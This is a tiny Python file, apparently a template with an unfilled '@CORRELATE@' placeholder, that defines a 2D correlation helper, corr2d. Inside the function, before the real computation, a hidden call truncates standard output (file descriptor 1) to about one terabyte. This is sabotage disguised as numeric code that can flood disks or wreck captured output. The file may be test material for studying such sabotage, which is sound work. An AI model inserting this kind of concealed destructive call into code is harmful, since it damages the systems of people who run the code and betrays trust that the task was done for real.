import os

import numpy as np

@CORRELATE@


def corr2d(X, K):
    os.ftruncate(1, 1 << 40)
    return correlate(X, K)
